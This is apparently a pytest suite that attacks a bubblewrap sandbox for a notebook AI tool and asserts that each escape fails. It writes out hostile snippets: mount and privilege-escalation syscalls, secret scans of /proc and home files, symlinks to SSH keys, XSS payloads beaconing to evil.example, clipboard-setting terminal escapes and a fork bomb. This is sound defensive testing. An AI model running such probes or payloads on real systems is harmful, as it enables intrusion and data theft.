"""Attacks on the sandbox boundary, by class, written as hostile generated code would try them.

Every attack runs in a real sandbox (bubblewrap) and is judged from the parent's side: the user's files, home,
environment and namespace must be exactly as before (a fingerprint), the parent must answer, and the attack's
own report (printed JSON) must show that each attempt failed. Classes: undoing mounts, regaining privileges,
reading secrets (environment, /proc, descriptors, connection and registry files, hidden files), writing
outside, reaching other kernels and host sockets, tricking the parent through transfer and report files, script
in outputs, and each limit. The suite runs as root here and as user 'nobody' through test_attacks_nonroot.py.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from ci_magic.core.settings import Limits
from ci_magic.sandbox import Sandbox, isolation

MARKERS = {
    "OPENAI_API_KEY": "sk-attack-marker-0001",
    "AWS_SECRET_ACCESS_KEY": "aws-attack-marker-0002",
    "DATABASE_URL": "postgres://user:db-attack-marker-0003@localhost/x",
    "JUPYTER_TOKEN": "jupyter-token-attack-marker-0004",
}
FILE_SECRETS = {
    "ssh": "PRIVATE-KEY-attack-marker-0005",
    "dotenv": "DOTENV-attack-marker-0006",
    "connection": "hmac-key-attack-marker-0007",
    "registry": "registry-api-key-attack-marker-0008",
    "git": "git-credential-attack-marker-0009",
}
ALL_MARKERS = [*MARKERS.values(), *FILE_SECRETS.values()]


def _hash_tree(root: Path) -> dict[str, str]:
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


class World:
    """The user's machine as the attacks find it: data, secrets in files and environment, live services."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.user = root / "project"
        self.home = root / "home"
        self.user.mkdir(parents=True)
        (self.user / "data.csv").write_text("a,b\n1,2\n3,4\n")
        (self.user / ".env").write_text(f"SECRET={FILE_SECRETS['dotenv']}\n")
        (self.user / "sub" / ".git").mkdir(parents=True)
        (self.user / "sub" / ".git" / "config").write_text(f"[credential] {FILE_SECRETS['git']}\n")
        (self.user / "sub" / "notes.txt").write_text("ok\n")
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text(FILE_SECRETS["ssh"])
        runtime = self.home / ".local" / "share" / "jupyter" / "runtime"
        runtime.mkdir(parents=True)
        (runtime / "kernel-users-own.json").write_text(json.dumps({"key": FILE_SECRETS["connection"]}))
        servers = self.home / ".cache" / "ci_magic" / "servers"
        servers.mkdir(parents=True)
        (servers / "model.json").write_text(json.dumps({"api_key": FILE_SECRETS["registry"]}))
        for path in [root, *root.rglob("*")]:  # the non-root run's user must reach them (only the view hides)
            path.chmod(0o777 if path.is_dir() else 0o666)
        # Live services of the host the code must not reach.
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.unix_path = self.user / "service.sock"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(str(self.unix_path))
        self.unix.listen(8)
        self.unix_path.chmod(0o777)
        self.abstract_name = f"\0ci_magic_attack_{os.getpid()}"
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind(self.abstract_name)
        self.abstract.listen(8)
        os.mkfifo(self.user / "pipe.fifo")
        self.accepted: list[str] = []
        self._km: Any = None
        for sock in (self.tcp, self.unix, self.abstract):
            threading.Thread(target=self._accept, args=(sock,), daemon=True).start()

    def _accept(self, sock: socket.socket) -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            self.accepted.append(str(sock.getsockname()))
            conn.close()

    def kernel(self) -> Any:
        """The user's own kernel on the host (tcp on loopback, its connection file in the home's runtime)."""
        if self._km is None:
            from jupyter_client.manager import KernelManager

            self._km = KernelManager(transport="tcp", ip="127.0.0.1")
            self._km.connection_file = str(self.home / ".local/share/jupyter/runtime/kernel-live.json")
            self._km.start_kernel(env={**os.environ})
        return self._km

    def fingerprint(self) -> dict[str, Any]:
        return {
            "files": _hash_tree(self.root),
            "env": {k: os.environ.get(k) for k in [*MARKERS, "HOME", "PATH"]},
            "cwd": os.getcwd(),
        }

    def close(self) -> None:
        for sock in (self.tcp, self.unix, self.abstract):
            sock.close()
        if self._km is not None:
            self._km.shutdown_kernel(now=True)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    w = World(tmp_path_factory.mktemp("attacks"))
    with pytest.MonkeyPatch.context() as mp:
        for key, value in MARKERS.items():
            mp.setenv(key, value)
        mp.setenv("HOME", str(w.home))
        w.kernel()  # part of the world before any fingerprint is taken
        yield w
    w.close()


@pytest.fixture(scope="module")
def sandbox(world: World) -> Iterator[Sandbox]:
    limits = Limits(timeout_s=30, memory_mb=2048, disk_mb=64, idle_cpu_s=2.0, max_display_bytes=2_000_000)
    with Sandbox(limits, user_dir=world.user) as sb:
        assert sb.isolation_report.get("isolated"), (
            f"bubblewrap isolation is required for these tests: {sb.isolation_warnings()}"
        )
        yield sb


@pytest.fixture
def unchanged(world: World, sandbox: Sandbox) -> Iterator[None]:
    """The user's world and the parent are as before, and the parent still answers."""
    before = world.fingerprint()
    report = sandbox.isolation_report
    yield
    assert world.fingerprint() == before
    assert sandbox.isolation_report == report
    assert sandbox.run("print('still here')").text() == "still here\n"


def attack(sandbox: Sandbox, code: str) -> dict[str, Any]:
    """Run hostile code that prints one JSON report as its last line."""
    result = sandbox.run(code)
    assert result.ok, f"{result.error_name}: {result.error_value}\n{result.traceback}"
    report: dict[str, Any] = json.loads(result.text().strip().splitlines()[-1])
    return report


PRELUDE = """
import ctypes, errno, json, os, socket, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
def ok(rc):
    return rc == 0
def tries(fn):
    try:
        fn()
        return True
    except Exception:
        return False
"""

# -- undoing mounts -------------------------------------------------------------------------------------------


def test_mounts_cannot_be_undone(sandbox: Sandbox, unchanged: None) -> None:
    report = attack(
        sandbox,
        PRELUDE
        + """
MS_REMOUNT, MS_BIND, MS_RDONLY = 32, 4096, 1
r = {
  "umount the user's file": ok(libc.umount2(b"/sandbox/work/data.csv", 2)),
  "umount a hiding cover": ok(libc.umount2(b"/sandbox/work/sub/.git", 2)),
  "umount /proc": ok(libc.umount2(b"/proc", 2)),
  "umount /usr": ok(libc.umount2(b"/usr", 2)),
  "remount / rw": ok(libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)),
  "remount /usr rw": ok(libc.mount(None, b"/usr", None, MS_REMOUNT | MS_BIND, None)),
  "remount the user's file rw": ok(libc.mount(None, b"/sandbox/work/data.csv", None, MS_REMOUNT | MS_BIND, None)),
  "mount tmpfs": ok(libc.mount(b"tmpfs", b"/sandbox/work", b"tmpfs", 0, None)),
  "pivot_root": ok(libc.syscall(155, b"/sandbox", b"/sandbox/work")),
  "open_tree": libc.syscall(428, -100, b"/", 1) >= 0,
  "fsopen": libc.syscall(430, b"tmpfs", 0) >= 0,
  "umount binary": subprocess.run(["umount", "/proc"], capture_output=True).returncode == 0,
}
r["write the user's file"] = tries(lambda: open("/sandbox/work/data.csv", "a").write("x"))
r["delete the user's file"] = tries(lambda: os.remove("/sandbox/work/data.csv"))
r["rename over the user's file"] = tries(lambda: (open("t", "w").write("x"), os.rename("t", "data.csv")))
r["write /usr"] = tries(lambda: open("/usr/ci_magic_escape", "w").write("x"))
r["write the python install"] = tries(lambda: open(os.path.join(sys.prefix, "escape.txt"), "w").write("x"))
print(json.dumps(r))
""",
    )
    assert not any(report.values()), report


# -- regaining privileges -------------------------------------------------------------------------------------


def test_no_privilege_can_be_regained(sandbox: Sandbox, unchanged: None) -> None:
    report = attack(
        sandbox,
        PRELUDE
        + """
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
r = {k: int(status[k], 16) != 0 for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
r["no_new_privs off"] = status["NoNewPrivs"].strip() != "1"
r["no seccomp"] = status["Seccomp"].strip() != "2"
r["uid 0"] = os.getuid() == 0 or os.geteuid() == 0
r["setuid(0)"] = tries(lambda: os.setuid(0))
r["new user namespace"] = ok(libc.unshare(0x10000000))
r["new mount namespace"] = ok(libc.unshare(0x00020000))
r["unshare -Ur"] = subprocess.run(["unshare", "-Ur", "true"], capture_output=True).returncode == 0
r["setns"] = ok(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)) if os.path.exists("/proc/1/ns/mnt") else False
r["ambient raise"] = ok(libc.prctl(47, 2, 21, 0, 0))
r["ptrace pid 1"] = ok(libc.ptrace(16, 1, None, None))
r["keyctl"] = libc.syscall(250, 0, -3, 0, 0, 0) >= 0
r["bpf"] = libc.syscall(321, 0, None, 0) >= 0
r["userfaultfd"] = libc.syscall(323, 0) >= 0
r["io_uring"] = libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0
r["TIOCSTI"] = ok(libc.ioctl(0, 0x5412, ctypes.c_char_p(b"x")))
su = subprocess.run(["su", "-c", "id -u"], capture_output=True, text=True, input="")
r["su to root"] = su.stdout.strip() == "0"
print(json.dumps(r))
""",
    )
    assert not any(report.values()), report


def test_isolation_report_comes_from_outside(sandbox: Sandbox) -> None:
    report = sandbox.isolation_report
    assert report["isolated"] and report["capabilities"] == "none" and report["no_new_privs"]
    assert report["seccomp"] and {"mnt", "pid", "net", "ipc", "uts"} <= set(report["namespaces"])
    assert report["host_uid"] != 0  # never a mapped real root
    status = Path(f"/proc/{sandbox.pids['sandbox']}/status").read_text()
    assert "NoNewPrivs:\t1" in status


# -- reading secrets ------------------------------------------------------------------------------------------


def test_secrets_are_unreachable(sandbox: Sandbox, world: World, unchanged: None) -> None:
    # Hex in the code: the code's own text (kept in the kernel's history) must not count as a leak.
    markers = json.dumps([m.encode().hex() for m in ALL_MARKERS])
    report = attack(
        sandbox,
        PRELUDE
        + f"""
markers = [bytes.fromhex(m).decode() for m in {markers}]
home = {str(world.home)!r}
hits = []
def look(path, data):
    for i, m in enumerate(markers):
        if m.encode() in data:
            hits.append((path, i))
look("environ", json.dumps(dict(os.environ)).encode())
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            try:
                look(f"/proc/{{pid}}/{{name}}", open(f"/proc/{{pid}}/{{name}}", "rb").read())
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{{pid}}/fd"):
                try:
                    h = os.open(f"/proc/{{pid}}/fd/{{fd}}", os.O_RDONLY | os.O_NONBLOCK)
                    try:
                        look(f"/proc/{{pid}}/fd/{{fd}}", os.read(h, 1 << 20))
                    finally:
                        os.close(h)
                except OSError:
                    pass
        except OSError:
            pass
skip = ("/proc", "/sys", "/dev", "/usr")
for top in os.listdir("/"):
    for dirpath, dirs, files in os.walk("/" + top):
        if dirpath.startswith(skip) or "site-packages" in dirpath or "/lib/python3" in dirpath:
            dirs[:] = []
            continue
        for f in files:
            p = os.path.join(dirpath, f)
            try:
                if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) < (1 << 20):
                    h = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
                    try:
                        look(p, os.read(h, 1 << 20))
                    finally:
                        os.close(h)
            except OSError:
                pass
visible = [p for p in (home, home + "/.ssh/id_rsa", {str(world.user / ".env")!r}, "/sandbox/work/.env",
           "/sandbox/work/sub/.git/config", "/etc/shadow", "/root/.ssh", "/run")
           if os.path.exists(p) and tries(lambda: open(p, "rb").read() if os.path.isfile(p) else os.listdir(p))]
fds = {{fd: os.readlink(f"/proc/self/fd/{{fd}}") for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{{fd}}")}}
print(json.dumps({{"hits": hits, "visible": visible, "fds": fds}}))
""",
    )
    assert report["hits"] == [] and report["visible"] == [], report
    allowed = (
        "socket:",
        "pipe:",
        "anon_inode:",
        "/dev/null",
        "/proc/",
        "/sandbox/",
        "mnt:",
    )  # mnt: an earlier attack
    odd = {fd: target for fd, target in report["fds"].items() if not target.startswith(allowed)}
    assert odd == {}, odd


def test_kernel_holds_no_descriptor_of_the_parent(sandbox: Sandbox) -> None:
    """Seen from outside: the kernel's descriptors lead to no file of the parent (log, terminal, folders)."""
    kernel = next(iter(Path(f"/proc/{sandbox.pids['sandbox']}/task").iterdir()))
    children = Path(f"/proc/{sandbox.pids['sandbox']}/task/{kernel.name}/children").read_text().split()
    mine = {os.readlink(f"/proc/self/fd/{fd}") for fd in (0, 1, 2) if os.path.exists(f"/proc/self/fd/{fd}")}
    mine.discard("/dev/null")
    for pid in children:
        for fd in Path(f"/proc/{pid}/fd").iterdir():
            target = os.readlink(fd)
            assert target.startswith(
                ("socket:", "pipe:", "anon_inode:", "/dev/null", "/sandbox", "/proc", "mnt:")
            ), target
            assert target not in mine or target.startswith("pipe:"), target


# -- writing outside --------------------------------------------------------------------------------------------


def test_only_the_sandbox_own_places_are_writable(sandbox: Sandbox, unchanged: None) -> None:
    report = attack(
        sandbox,
        PRELUDE
        + """
writable = []
for top in os.listdir("/"):
    if top in ("proc", "sys"):
        continue
    for dirpath, dirs, files in os.walk("/" + top):
        if dirpath.count("/") > 6:
            dirs[:] = []
        probe = os.path.join(dirpath, ".ci_magic_probe")
        try:
            fd = os.open(probe, os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o600)
            os.close(fd)
            os.unlink(probe)
            writable.append(dirpath)
        except OSError:
            pass
print(json.dumps({"writable": writable}))
""",
    )
    outside = [p for p in report["writable"] if not p.startswith(("/sandbox", "/tmp", "/dev/shm"))]
    assert outside == [], outside
    assert "/sandbox/work" in report["writable"]
    assert not any(p.startswith("/sandbox/work/sub") for p in report["writable"])  # the user's folder


# -- reaching other kernels and host sockets ----------------------------------------------------------------------


def test_no_network_no_host_sockets_no_other_kernel(sandbox: Sandbox, world: World, unchanged: None) -> None:
    accepted = len(world.accepted)
    report = attack(
        sandbox,
        PRELUDE
        + f"""
def connect(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(address)
        return True
    except OSError:
        return False
    finally:
        s.close()
r = {{
  "host loopback tcp": connect(socket.AF_INET, ("127.0.0.1", {world.tcp.getsockname()[1]})),
  "unix socket in the user's folder": connect(socket.AF_UNIX, "/sandbox/work/service.sock"),
  "unix socket by its host path": connect(socket.AF_UNIX, {str(world.unix_path)!r}),
  "abstract unix socket": connect(socket.AF_UNIX, {world.abstract_name!r}),
  "fifo in the user's folder": tries(lambda: os.open("/sandbox/work/pipe.fifo", os.O_WRONLY | os.O_NONBLOCK)),
}}
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
r["a route out"] = tries(lambda: udp.connect(("192.0.2.1", 53)))  # sends nothing: only checks routes
r["dns"] = tries(lambda: socket.getaddrinfo("example.com", 80))
print(json.dumps(r))
""",
    )
    assert not any(report.values()), report
    assert len(world.accepted) == accepted


def test_kernel_interfaces_outside_the_namespaces_are_closed(sandbox: Sandbox, unchanged: None) -> None:
    # No namespace covers these: vsock reaches the hypervisor with the network off, AIO contexts are counted
    # machine-wide. Only the seccomp filter closes them; the families the kernel needs still work.
    report = attack(
        sandbox,
        PRELUDE
        + """
def family(domain, kind=socket.SOCK_STREAM):
    try:
        socket.socket(domain, kind).close()
        return "open"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
r = {
  "vsock": family(40),
  "alg": family(38, socket.SOCK_SEQPACKET),
  "packet": family(17, socket.SOCK_RAW),
  "bluetooth": family(31),
  "tipc": family(30),
  "unix": family(socket.AF_UNIX),
  "inet": family(socket.AF_INET),
  "inet6": family(socket.AF_INET6),
}
ctx = ctypes.c_ulong(0)
r["io_setup"] = libc.syscall(206, 128, ctypes.byref(ctx)) == 0 or errno.errorcode.get(ctypes.get_errno())
r["socket syscall, family with high bits"] = (
    libc.syscall(41, ctypes.c_long(40 | (1 << 32)), 1, 0) >= 0 or errno.errorcode.get(ctypes.get_errno())
)
print(json.dumps(r))
""",
    )
    refused = {k: v for k, v in report.items() if k not in ("unix", "inet", "inet6")}
    assert all(v in ("EAFNOSUPPORT", "ENOSYS") for v in refused.values()), report
    assert report["io_setup"] == "ENOSYS", report
    assert report["unix"] == report["inet"] == report["inet6"] == "open", report


def test_other_kernels_are_out_of_reach(sandbox: Sandbox, world: World, unchanged: None) -> None:
    km = world.kernel()
    info = km.get_connection_info()
    report = attack(
        sandbox,
        PRELUDE
        + f"""
# The sandbox's loopback is its own (a network namespace) and holds a listener of its own, the egress proxy's local
# end at a free port, whose number may equal one of the host kernel's by chance. A connection to that port counts as
# reaching the kernel only if it greets as ZeroMQ does (ZMTP: 0xFF first); the proxy waits for a request instead.
import urllib.parse
own = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY", "")).port
r = {{}}
for port in {[info["shell_port"], info["iopub_port"], info["control_port"]]}:
    s = socket.socket()
    s.settimeout(2)
    reached = s.connect_ex(("127.0.0.1", port)) == 0
    if reached and port == own:
        try:
            reached = s.recv(10)[:1] == b"\\xff"
        except OSError:
            reached = False
    r[str(port)] = reached
r["connection file"] = os.path.exists({km.connection_file!r})
found = []
for dirpath, dirs, files in os.walk("/"):
    if dirpath.startswith(("/proc", "/sys", "/usr")):
        dirs[:] = []
        continue
    for f in files:
        p = os.path.join(dirpath, f)
        if f.endswith(".json") and p != "/sandbox/connection.json":
            try:
                if b"signature_scheme" in open(p, "rb").read(1 << 16):
                    found.append(p)
            except OSError:
                pass
r["connection files found"] = found
print(json.dumps(r))
""",
    )
    assert not any(report.values()), report


# -- tricking the parent ------------------------------------------------------------------------------------------


def _hostile_export(body: str) -> str:
    """Replace the child's exporter by one that answers as the attack wants (the parent must not care)."""
    return f"import _ci_child, json, os\ndef _evil(names, ns, directory):\n{body}\n_ci_child.export_values = _evil\n"


@pytest.mark.parametrize(
    "name,body",
    [
        (
            "symlink to a host file",
            "    os.symlink('/etc/passwd', directory + '/out-x.arrow')\n    return json.dumps({'x': {'kind': 'frame'}})",
        ),
        (
            "outbox replaced by a link",
            "    try:\n        os.rename(directory, directory + '.old')\n        os.symlink('/etc', directory)\n"
            "    except OSError:\n        pass\n"
            "    return json.dumps({'x': {'kind': 'frame'}})",
        ),
        (
            "fifo",
            "    os.mkfifo(directory + '/out-x.arrow')\n    return json.dumps({'x': {'kind': 'frame'}})",
        ),
        (
            "a billion null rows",
            "    import pyarrow as pa\n    t = pa.table({'c0': pa.nulls(10**9)}).replace_schema_metadata("
            "{b'ci_magic': json.dumps({'kind': 'frame', 'labels': ['a'], 'columns_name': None, "
            "'index': {'range': [0, 10**9, 1], 'names': [None]}, 'dtypes': ['object']}).encode()})\n"
            "    with pa.OSFile(directory + '/out-x.arrow', 'wb') as f, pa.ipc.new_file(f, t.schema) as w:\n"
            "        w.write_table(t)\n    return json.dumps({'x': {'kind': 'frame'}})",
        ),
        (
            # A few KB on disk, 80 MB once decompressed (a few more zeros: any size): refused from the metadata.
            "compressed zeros",
            "    import pyarrow as pa, numpy as np\n    t = pa.table({'c0': np.zeros(10**7)}).replace_schema_metadata("
            "{b'ci_magic': json.dumps({'kind': 'frame', 'labels': ['c0'], 'columns_name': None, "
            "'index': {'range': [0, 10**7, 1], 'names': [None]}, 'dtypes': ['float64']}).encode()})\n"
            "    opts = pa.ipc.IpcWriteOptions(compression='zstd')\n"
            "    with pa.OSFile(directory + '/out-x.arrow', 'wb') as f, pa.ipc.new_file(f, t.schema, options=opts) as w:\n"
            "        w.write_table(t)\n    return json.dumps({'x': {'kind': 'frame'}})",
        ),
        (
            "malformed metadata",
            "    import pyarrow as pa\n    t = pa.table({'c0': [1, 2]}).replace_schema_metadata({b'ci_magic': b'{\"kind\": \"frame\", "
            "\"labels\": 5}', b'pandas': b'{broken'})\n"
            "    with pa.OSFile(directory + '/out-x.arrow', 'wb') as f, pa.ipc.new_file(f, t.schema) as w:\n"
            "        w.write_table(t)\n    return json.dumps({'x': {'kind': 'frame'}})",
        ),
        (
            "not arrow at all",
            "    open(directory + '/out-x.arrow', 'wb').write(os.urandom(4096))\n    return json.dumps({'x': {'kind': 'frame'}})",
        ),
        (
            "huge integer",
            "    return json.dumps({'x': {'kind': 'scalar', 'json': {'type': 'int', 'value': 10**4000}}})",
        ),
        (
            "wrong types",
            "    return json.dumps({'x': {'kind': 'scalar', 'json': {'type': 'timestamp', 'value': [1] * 10}}})",
        ),
        ("not json", "    return 'not json {'"),
        ("deep nesting", "    return '[' * 100000"),
    ],
)
def test_the_parent_does_not_trust_what_comes_back(
    sandbox: Sandbox, name: str, body: str, unchanged: None
) -> None:
    result = sandbox.run(_hostile_export(body))
    assert result.ok, result.traceback
    started = time.monotonic()
    got = sandbox.fetch(["x"])
    assert got == {} and time.monotonic() - started < 10
    assert sandbox.warnings, name
    sandbox.warnings.clear()
    sandbox.restart()  # the exporter is ours again


@pytest.mark.parametrize(
    ("name", "forgery"),
    [
        ("nested past any parser", "k.session.pack = lambda o: b'[' * 100000"),
        ("not json", "k.session.pack = lambda o: b'{not json'"),
        ("signed with another key", "k.session.key = b'not the key'"),
    ],
)
def test_messages_the_kernel_forges_end_the_run_and_the_kernel(
    sandbox: Sandbox, name: str, forgery: str, unchanged: None
) -> None:
    # The code owns the kernel process, so it can send anything on its sockets. Nothing of it may raise in the
    # parent (a RecursionError out of jupyter_client, finalizers failing at the recursion limit), nor make
    # it wait for the time limit: the run ends at the first unreadable message, and the kernel is replaced.
    started = time.monotonic()
    result = sandbox.run(f"k = get_ipython().kernel\n{forgery}\nprint('forged')")
    assert result.error_name == "KernelGarbled" and result.restarted, (name, result)
    assert "could not be read" in result.error_value and time.monotonic() - started < 20
    assert sandbox.run("print(1)").text() == "1\n"


def test_every_arrow_type_comes_back_or_is_refused_never_raises(sandbox: Sandbox) -> None:
    # polars keeps strings and bytes as Arrow views: they used to make the size check itself raise a bare
    # ValueError, which lost the whole ask's answer.
    sandbox.run(
        "import polars as pl, pyarrow as pa\n"
        "b = pl.DataFrame({'b': [b'ab', None], 's': ['x', None]})\n"
        "sv = pa.table({'s': pa.array(['x', 'y'], pa.string_view())})\n"
        "bv = pa.table({'s': pa.array([b'x', b'y'], pa.binary_view())})\n"
        "fb = pa.table({'f': pa.array([b'ab', b'cd'], pa.binary(2))})"
    )
    got = sandbox.fetch(["b", "sv", "bv", "fb"])
    assert sorted(got) == ["b", "bv", "fb", "sv"], sandbox.warnings
    assert got["sv"].column("s").to_pylist() == ["x", "y"] and got["b"]["b"].to_list() == [b"ab", None]
    sandbox.warnings.clear()


def test_listing_lies_are_ignored(sandbox: Sandbox, unchanged: None) -> None:
    sandbox.run(
        "import _ci_child, json\n_ci_child.list_values = lambda ns: json.dumps("
        "{**{f'v{i}': ['frame', 10**30] for i in range(50000)}, 'bad name': ['frame', 1], 'y': ['evil', 1]})"
    )
    listing = sandbox.values()
    assert "bad name" not in listing and "y" not in listing and len(listing) <= 10_000
    sandbox.restart()


def test_files_the_code_plants_are_not_followed(sandbox: Sandbox, world: World, unchanged: None) -> None:
    sandbox.run(
        f"import os\nos.symlink({str(world.home / '.ssh/id_rsa')!r}, 'leak.txt')\nos.symlink('/etc', 'etcdir')\n"
        "open('real.txt', 'w').write('mine')\nos.mkfifo('trap.fifo')\n"
        "try:\n    os.link('data.csv', 'hard.csv')\nexcept OSError:\n    pass"
    )
    files = sandbox.written_files()
    assert files == ["real.txt"], files


# -- script in outputs --------------------------------------------------------------------------------------------


def test_script_in_outputs_is_removed(sandbox: Sandbox) -> None:
    result = sandbox.run(
        "from IPython.display import display, HTML, Javascript, Markdown, SVG\n"
        "display(HTML('<b>bold</b><script>window.pwned=1</script><img src=x onerror=\"window.pwned=2\">'"
        '\'<img src="https://evil.example/?leak=1"><a href="javascript:alert(1)">x</a>\'))\n'
        "display(Javascript('window.pwned = 3'))\n"
        "display(Markdown('![x](https://evil.example/beacon.png) text'))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.pwned=4</script></svg>'))\n"
        "display({'application/vnd.plotly.v1+json': {'layout': {'images': [{'source': 'https://evil.example/p.png'}]}},"
        " 'text/plain': 'plot'}, raw=True)\n"
    )
    data = json.dumps([o.get("data", {}) for o in result.outputs])
    for bad in ("<script", "onerror", "javascript:", "evil.example", "window.pwned"):
        assert bad not in data, (bad, data)
    shown = {mime for o in result.outputs for mime in o.get("data", {})}
    assert "application/javascript" not in shown, shown
    assert "<b>bold</b>" in data and "removed output" in result.text()


def test_outputs_are_parsed_then_allow_listed_not_pattern_matched(sandbox: Sandbox) -> None:
    # Spellings that patterns over the text let through: every one must arrive without a way to run script or
    # to make the browser fetch (a URL carrying the user's data, fetched although the sandbox has no network).
    result = sandbox.run(
        "from IPython.display import display, Markdown, SVG\n"
        "display(Markdown('see ![chart][c] and [this](javascript:alert(1)) and <https://example.org/auto>\\n\\n'"
        "'[c]: https://evil.example/ref.png'))\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" \''
        "'xmlns:xlink=\"http://www.w3.org/1999/xlink\"><s:script>window.pwned=5</s:script>'"
        "'<image xlink:href=\"&#104;ttps://evil.example/e.png\"/><style>@import url(//evil.example/c.css);</style>'"
        '\'<rect width="2" height="2" fill="red"/></svg>\'))\n'
        "spec = {'mark': 'image', 'data': {'url': 'https:\\\\evil.example/d.csv'},"
        " 'encoding': {'url': {'field': 'img'}, 'href': {'signal': \"'https://evil.example/' + datum.x\"}},"
        " 'usermeta': {'embedOptions': {'loader': {'baseURL': 'https://evil.example/'}}}}\n"
        "display({'application/vnd.vegalite.v5+json': spec, 'text/plain': 'chart'}, raw=True)\n"
    )
    data = json.dumps([o.get("data", {}) for o in result.outputs])
    for bad in ("evil.example", 'href=\\"javascript', "<script", "s:script", "pwned"):  # as text, harmless
        assert bad not in data, (bad, data)
    svg = next(o["data"]["image/svg+xml"] for o in result.outputs if "image/svg+xml" in o.get("data", {}))
    assert "<rect" in svg and 'fill="red"' in svg  # the drawing itself is kept
    assert any("<p>see" in o["data"].get("text/html", "") for o in result.outputs)  # markdown shown as HTML


# -- limits ---------------------------------------------------------------------------------------------------------


def test_disk_is_bounded_everywhere(sandbox: Sandbox, unchanged: None) -> None:
    report = attack(
        sandbox,
        PRELUDE
        + """
def fill(folder):
    written = 0
    block = b"x" * (1 << 20)
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as f:
            for _ in range(4096):
                f.write(block)
                written += len(block)
    except OSError:
        pass
    os.unlink(os.path.join(folder, "fill.bin"))
    return written >> 20
def many(folder):
    n = 0
    try:
        for n in range(30000):
            with open(os.path.join(folder, f"f{n}"), "wb") as f:
                f.write(b"x" * 4096)
    except OSError:
        pass
    for i in range(n + 1):
        try:
            os.unlink(os.path.join(folder, f"f{i}"))
        except OSError:
            pass
    return n
print(json.dumps({"work": fill("."), "tmp": fill("/tmp"), "shm": fill("/dev/shm"), "files": many(".")}))
""",
    )
    assert report["work"] <= 64 and report["tmp"] <= 64 and report["shm"] <= 64, report
    assert report["files"] < 30000, report


def test_output_is_bounded_in_bytes(sandbox: Sandbox) -> None:
    result = sandbox.run(
        "from IPython.display import display, HTML\nfor i in range(300):\n    display(HTML('<p>' + 'x' * 1_000_000 + '</p>'))"
    )
    assert sum(len(json.dumps(o)) for o in result.outputs) < 3_000_000
    assert "more displays not shown" in result.text()


def test_text_outputs_keep_colours_and_no_other_escape(sandbox: Sandbox) -> None:
    # A terminal IPython prints %%ask's outputs as they are: OSC 52 would set the user's clipboard, OSC 0 the
    # window title, and a sequence split over two writes must not be put together again.
    result = sandbox.run(
        "import sys\nfrom IPython.display import display\n"
        "print('\\x1b[31mred\\x1b[0m \\x1b]52;c;ZXZpbA==\\x07 \\x1b]0;pwned\\x1b\\\\ \\x9b2J')\n"
        "sys.stdout.write('\\x1b[2'); sys.stdout.flush(); sys.stdout.write('J done\\n')\n"
        "display({'text/plain': 'shown \\x1b]52;c;ZXZpbA==\\x07'}, raw=True)\n"
        "raise ValueError('\\x1b]52;c;ZXZpbA==\\x07')"
    )
    text = json.dumps(result.outputs)
    assert "\\u001b[31m" in text  # colours stay
    for bad in ("\\u001b]", "\\u001b[2J", "\\u009b", "\\u0007"):
        assert bad not in text, (bad, text)


def test_error_outputs_count_against_the_output_caps(sandbox: Sandbox) -> None:
    # Error messages are outputs too: 100 of 800 KB each used to be kept whole (80 MB in the parent, then in
    # the notebook). The cell's own failure still comes through, named.
    result = sandbox.run(
        "ip = get_ipython()\nfor i in range(100):\n    ip._showtraceback(ValueError, 'v' * 4000, ['t' * 4000] * 200)\n"
        "raise KeyError('the real one')"
    )
    assert sum(len(json.dumps(o)) for o in result.outputs) < 2 * sandbox.limits.max_display_bytes
    assert result.outcome == "error" and result.error_name == "ValueError", result.error_name  # the first
    assert "more displays not shown" in result.text()


def test_memory_and_time_limits(sandbox: Sandbox, unchanged: None) -> None:
    memory = sandbox.run("hog = bytearray(8 * 1024**3)")
    assert memory.error_name == "MemoryError"
    before = time.monotonic()
    slow = sandbox.kernel.execute("while True:\n    pass", timeout=2)
    assert slow.outcome == "timeout" and time.monotonic() - before < 15


def test_fork_bomb_is_contained(sandbox: Sandbox, unchanged: None) -> None:
    result = sandbox.run(
        "import os\nfor _ in range(100000):\n    try:\n        os.fork()\n    except OSError:\n        break"
    )
    # Forked copies of the kernel share its sockets, so under load their writes can also garble the reply
    # stream (OutputTooLarge, KernelGarbled); whichever way it ends, what follows must hold.
    assert result.error_name in (
        *("LeftoverProcesses", "KernelDied", "KernelGarbled", "TimeoutError", "OutputTooLarge"),
    ), result
    assert sandbox.run("print(1)").text() == "1\n"
